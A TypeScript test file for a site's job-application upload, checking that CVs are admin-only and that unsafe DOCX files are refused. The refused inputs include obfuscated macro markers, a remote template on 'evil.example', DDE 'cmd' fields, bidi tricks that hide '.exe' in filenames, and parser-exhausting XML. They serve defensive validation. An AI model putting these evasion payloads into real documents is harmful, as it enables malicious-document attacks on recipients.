// PostgreSQL nightly: other tests make the same queries.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, vi } from 'vitest';
import type { MessageDetail, MessagePage } from '../../../contract/contact/contact-messages.ts';
import { APPLICATION, applyForJob } from '../../../tests/support/apply-for-job.ts';
import { makeDocx, makeZip, PDF } from '../../../tests/support/cv-files.ts';
import { editDocument } from '../../../tests/support/edit-document.ts';
import { bearer, jsonBody, openTestSite, type TestSite } from '../../../tests/support/test-site.ts';

const errorsOf = async (response: Response) =>
  [response.status, ((await response.json()) as { errors?: unknown }).errors] as const;

const filesOf = (site: TestSite) => readdir(join(site.dataDir, 'media', '.private'));

async function openPanel(site: TestSite) {
  const headers = bearer(await site.signIn());
  return (path: string, init: RequestInit = {}) =>
    site.request(`/api/admin/messages${path}`, { ...init, headers: { ...headers, ...init.headers } });
}

test('the statuses of an application speak of hiring in the list, Activity, the CSV file and the reminder', async () => {
  await using site = await openTestSite();
  expect((await applyForJob(site, PDF)).status).toBe(201);
  await vi.waitFor(() => expect(site.emails).toHaveLength(1));
  const panel = await openPanel(site);
  const change = { status: 'won', follow_up_on: '2026-11-20' };
  await panel('/1', { ...jsonBody(change), method: 'PATCH' });
  expect(((await (await panel('')).json()) as MessagePage).messages).toMatchObject([{ from: 'job', status: 'won' }]);
  expect(await (await panel('.csv')).text()).toContain(',"Hired",');
  const activity = await site.request('/api/admin/activity?kind=Message', { headers: bearer(await site.signIn()) });
  expect(JSON.stringify(await activity.json())).toContain('"New to Hired"');
  await site.sendScheduledEmails();
  await vi.waitFor(() => expect(site.emails).toHaveLength(2));
  expect(site.emails[1]?.text).toContain('Status: Hired');
});

test('an application is a message whose CV only an administrator can download', async () => {
  await using site = await openTestSite();
  expect((await applyForJob(site, PDF, 'Jay "CV" é.pdf')).status).toBe(201);
  await vi.waitFor(() => expect(site.emails).toHaveLength(1));
  const [email] = site.emails;
  expect(email?.text).toContain('CV: Jay _CV_ é.pdf. Download it: http://localhost:3000/admin/messages?message=1');
  expect(JSON.stringify(email)).not.toContain('%PDF');

  const panel = await openPanel(site);
  expect(((await (await panel('?from=job')).json()) as MessagePage).messages).toMatchObject([
    { title: 'Application: Flutter developer', name: 'Jay Parmar' },
  ]);
  expect(((await (await panel('?from=contact')).json()) as MessagePage).total).toBe(0);
  const { message } = (await (await panel('/1')).json()) as { message: MessageDetail };
  expect(message).toMatchObject({ page: 'job', cv: { name: 'Jay _CV_ é.pdf', bytes: PDF.length } });
  expect(message.message).toBe(`Phone: ${APPLICATION.telephone}\n\n${APPLICATION.message}`);

  const download = await panel('/1/cv');
  expect(Buffer.from(await download.arrayBuffer())).toEqual(PDF);
  expect(Object.fromEntries(download.headers)).toMatchObject({
    'content-type': 'application/pdf',
    'content-disposition': `attachment; filename="Jay _CV_ _.pdf"; filename*=UTF-8''Jay%20_CV_%20%C3%A9.pdf`,
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-store',
  });
  expect((await site.request('/api/admin/messages/1/cv')).status).toBe(401);
  expect((await panel('/2/cv')).status).toBe(404);

  const [file = ''] = await filesOf(site);
  for (const path of [`/media/${file}`, `/media/.private/${file}`]) {
    expect(await (await site.request(path)).text()).not.toContain('%PDF');
  }
  expect(await readFile(join(site.dataDir, 'media', '.private', file), 'latin1')).not.toContain('%PDF');
});

test('a CV is deleted with its message', async () => {
  await using site = await openTestSite();
  await applyForJob(site, makeDocx(), 'cv.docx');
  await applyForJob(site, PDF, 'cv.pdf', { name: 'Another' });
  const panel = await openPanel(site);
  for (const id of [1, 2]) await panel(`/${id}/mark`, jsonBody({ as: 'bin' }));
  await panel('/1', { method: 'DELETE' });
  expect(await filesOf(site)).toHaveLength(1);
  site.time.now += 31 * 24 * 3_600_000;
  await site.sweep();
  expect(await filesOf(site)).toEqual([]);
  expect(await site.db.selectFrom('message_files').selectAll().execute()).toEqual([]);
});

test('a CV whose application was not stored is removed', async () => {
  await using site = await openTestSite();
  await site.db.schema.alterTable('messages').renameTo('away').execute();
  expect((await applyForJob(site, PDF)).status).toBe(500);
  await site.db.schema.alterTable('away').renameTo('messages').execute();
  expect(await filesOf(site)).toHaveLength(1);
  await site.sweep();
  expect(await filesOf(site)).toHaveLength(1);
  site.time.now += 3_601_000;
  await site.sweep();
  expect(await filesOf(site)).toEqual([]);
});

const NOT_A_CV = 'Choose a PDF or a Word document (DOCX) without macros.';
const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';

test.each<[string, Uint8Array | undefined, string, string]>([
  ['no file', undefined, '', 'Choose your CV: a PDF or a Word document (DOCX).'],
  ['an empty file', Buffer.alloc(0), 'cv.pdf', 'This file is empty. Choose another one.'],
  ['another name', PDF, 'cv.exe', NOT_A_CV],
  ['a name that does not match', PDF, 'cv.docx', NOT_A_CV],
  ['a text', Buffer.from('My life'), 'cv.pdf', NOT_A_CV],
  ['another ZIP file', makeZip({ 'a.txt': 'a' }), 'cv.docx', NOT_A_CV],
  ['a spreadsheet', makeDocx({ type: 'spreadsheetml.sheet.main+xml' }), 'cv.docx', NOT_A_CV],
  ['a part of a document', makeDocx().subarray(0, 90), 'cv.docx', NOT_A_CV],
  ['macros', makeDocx({ more: { 'word/vbaProject.bin': 'Sub' } }), 'cv.docx', NOT_A_CV],
  ['a document with macros under another name', makeDocx({ type: MACRO_TYPE }), 'cv.docx', NOT_A_CV],
  [
    '10 MB and a byte',
    Buffer.alloc(10_485_761, '%PDF-'),
    'cv.pdf',
    'This file is larger than 10 MB. Choose a smaller one.',
  ],
  ['30 MB', Buffer.alloc(30_000_000, '%PDF-'), 'cv.pdf', 'This file is larger than 10 MB. Choose a smaller one.'],
])('%s is refused at the field', async (_case, cv, fileName, error) => {
  await using site = await openTestSite();
  expect(await errorsOf(await applyForJob(site, cv, fileName))).toEqual([422, { cv: [error] }]);
  expect(await filesOf(site)).toEqual([]);
});

const TYPES = '[Content_Types].xml';
const RELATIONS = 'word/_rels/document.xml.rels';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = 'External') =>
  `<r:Relationships xmlns:r="x"><r:Relationship Id="a" Type="${type}" Target="${target}" TargetMode="${mode}"/></r:Relationships>`;
const typesWith = (override: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${override}</Types>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const field = (instruction: string) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}</w:p>`;

test('nothing that Word would run or load is hidden from the check of a document', async () => {
  await using site = await openTestSite({ CONTACT_PER_10_MINUTES: '1000', CONTACT_GLOBAL_PER_10_MINUTES: '1000' });
  const macros = '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
  const hidden: Record<string, Record<string, string | Buffer>> = {
    'a type by references': {
      [TYPES]: typesWith(macros.replace('vbaProject', '&#x76;b&#97;Project')),
    },
    'a main type by references': { [TYPES]: typesWith('<Override ContentType="a.&#109;acroEnabled.main+xml"/>') },
    'a type in UTF-16': { [TYPES]: utf16(typesWith(macros)) },
    'an entity of a DTD': { [TYPES]: `<!DOCTYPE a [<!ENTITY v "vba">]>${typesWith(macros.replace('vba', '&v;'))}` },
    'another encoding': { [TYPES]: typesWith('').replace('"1.0"', '"1.0" encoding="utf-7"') },
    'letter case': {
      [TYPES]: typesWith(macros.toUpperCase().replace('OVERRIDE', 'Override').replace('CONTENTTYPE', 'ContentType')),
    },
    'a second list of types': { '[content_types].XML': typesWith(macros) },
    'a relationship by references': {
      [RELATIONS]: relation(
        'http://schemas.microsoft.com/office/2006/relationships/&#118;baProject',
        'a.bin',
        'Internal',
      ),
    },
    'an escaped target': { [RELATIONS]: relation('a', '%76baProject.bin', 'Internal') },
    'an escaped name of a part': { 'word/%76baProject.bin': 'Sub' },
    'a template of another server': {
      [RELATIONS]: relation(`${OFFICE}/attachedTemplate`, 'https://evil.example/a.dotm'),
    },
    'a template of a share': { [RELATIONS]: relation(`${OFFICE}/attachedTemplate`, 'file://evil/a.dotm') },
    'a template by references, in UTF-16': {
      [RELATIONS]: utf16(relation(`${OFFICE}/attachedTemplate`, '&#104;ttp://evil.example/a.dotm')),
    },
    'an OLE object': { [RELATIONS]: relation(`${OFFICE}/oleObject`, 'embeddings/a.bin', 'Internal') },
    'an imported document': { [RELATIONS]: relation(`${OFFICE}/aFChunk`, 'a.docm', 'Internal') },
    'an ActiveX control': { 'word/activeX/activeX1.xml': '<a/>' },
    'a DDE field in pieces': {
      'word/document.xml': `<w:document xmlns:w="x">${field('<w:instrText> D</w:instrText><w:instrText>D&#69;AUTO c:\\cmd</w:instrText>')}</w:document>`,
    },
    'a simple DDE field in a footer': {
      'word/footer1.xml': '<w:a xmlns:w="x"><w:fldSimple w:instr=" D&#68;E cmd"/></w:a>',
    },
  };
  for (const [name, more] of Object.entries(hidden)) {
    const answer = await errorsOf(await applyForJob(site, makeDocx({ more }), 'cv.docx'));
    expect([name, answer]).toEqual([name, [422, { cv: [NOT_A_CV] }]]);
  }
  // What ordinary documents have.
  const harmless: Record<string, string | Buffer> = {
    [TYPES]: utf16(typesWith('<Default Extension="png" ContentType="image/png"/>')),
    [RELATIONS]: relation(`${OFFICE}/hyperlink`, 'https://www.linkedin.com/in/jay'),
    'word/_rels/settings.xml.rels': relation(
      `${OFFICE}/attachedTemplate`,
      'file:///C:\\Users\\Jay\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
    ),
    'word/document.xml': `<w:document xmlns:w="x">${field('<w:instrText> PAGE </w:instrText><w:t>DDE AUTO</w:t>')}</w:document>`,
    'word/media/image1.png': PDF,
  };
  expect((await applyForJob(site, makeDocx({ more: harmless }), 'cv.docx')).status).toBe(201);
});

test('the largest document in its worst shape is checked in a moment', async () => {
  await using site = await openTestSite();
  const elements = (name: string) => `<a>${`<${name}/>`.repeat(2_000_000)}</a>`;
  const newlines = `<w:a xmlns:w="x"><w:instrText>${'\n"'.repeat(1_000_000)}</w:instrText></w:a>`;
  const shapes: Record<string, string>[] = [
    { [RELATIONS]: elements('a') },
    { 'word/document.xml': elements('w:instrText') },
    { 'word/document.xml': newlines },
    { [RELATIONS]: '<a>'.repeat(5_000_000) },
    { [RELATIONS]: `<a ${Array.from({ length: 900_000 }, (_, index) => `b${index}=""`).join(' ')}/>` },
  ];
  for (const more of shapes) {
    const begun = process.cpuUsage();
    const { status } = await applyForJob(site, makeDocx({ more }), 'cv.docx');
    expect([201, 422]).toContain(status);
    const { user, system } = process.cpuUsage(begun);
    // In milliseconds of the processor. Without limits on size, depth and attributes it takes up to 12 seconds.
    expect((user + system) / 1_000).toBeLessThan(6_000);
  }
});

test('the name of a file does not show another ending than it has', async () => {
  await using site = await openTestSite();
  const hidden = [
    '\u202e',
    '\u202d',
    '\u2066',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u061c',
    '\u200b',
    '\u200d',
    '\ufeff',
    '\u00ad',
  ];
  await applyForJob(site, PDF, `Jay${hidden.join('')}fdp.exe${' '.repeat(90)}\u2028.pdf`);
  const panel = await openPanel(site);
  const message = await (await panel('/1')).text();
  const download = (await panel('/1/cv')).headers.get('content-disposition');
  expect(message).toContain('Jayfdp.exe .pdf');
  expect(download).toBe('attachment; filename="Jayfdp.exe .pdf"');
  const texts = [message, await (await panel('.csv')).text(), JSON.stringify(site.emails)];
  for (const text of texts) expect(text).not.toMatch(/[\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);

  // An earlier version stored such names.
  await site.db.updateTable('message_files').set({ file_name: 'cv\u202efdp.exe' }).execute();
  expect((await panel('/1/cv')).headers.get('content-disposition')).toBe('attachment; filename="cvfdp.exe"');
});

test('10 MB are accepted, and every wrong field is told', async () => {
  await using site = await openTestSite();
  const wrong = { name: ' ', email: 'jay@example', telephone: '1'.repeat(41) };
  const [status, errors] = await errorsOf(await applyForJob(site, Buffer.alloc(0), 'cv.pdf', wrong));
  expect([status, Object.keys(errors ?? {}).toSorted()]).toEqual([422, ['cv', 'email', 'name', 'telephone']]);
  expect((await applyForJob(site, Buffer.alloc(10_485_760, '%PDF-'))).status).toBe(201);
});

test('at most a hundred CVs are stored in an hour', async () => {
  await using site = await openTestSite({ CONTACT_PER_10_MINUTES: '1000', CONTACT_GLOBAL_PER_10_MINUTES: '1000' });
  const statuses = new Set<number>();
  for (let count = 0; count < 100; count++) statuses.add((await applyForJob(site, PDF)).status);
  expect([...statuses]).toEqual([201]);
  expect((await applyForJob(site, PDF)).status).toBe(429);
  site.time.now += 3_601_000;
  expect((await applyForJob(site, PDF)).status).toBe(201);
});

test('only an open job takes applications, and as many as the contact form takes messages', async () => {
  await using site = await openTestSite({ CONTACT_PER_10_MINUTES: '2' });
  expect((await applyForJob(site, PDF, 'cv.pdf', { job: 'no-such-job' })).status).toBe(404);
  const { items } = await site.copy.read('jobs');
  await editDocument(site, 'jobs', () => ({ items: [{ ...items[0], closes: '2026-11-20' }, items[1]] }));
  expect(await errorsOf(await applyForJob(site, PDF))).toMatchObject([422, { job: [/closed/] }]);
  const open = { job: 'seo-intern' };
  expect((await applyForJob(site, PDF, 'cv.pdf', { ...open, homepage_address: 'x' })).status).toBe(201);
  expect(await site.db.selectFrom('messages').select(['folder']).execute()).toEqual([{ folder: 'spam' }]);
  expect((await applyForJob(site, PDF, 'cv.pdf', open)).status).toBe(201);
  expect((await applyForJob(site, PDF, 'cv.pdf', open)).status).toBe(429);
  expect(await filesOf(site)).toHaveLength(2);
});
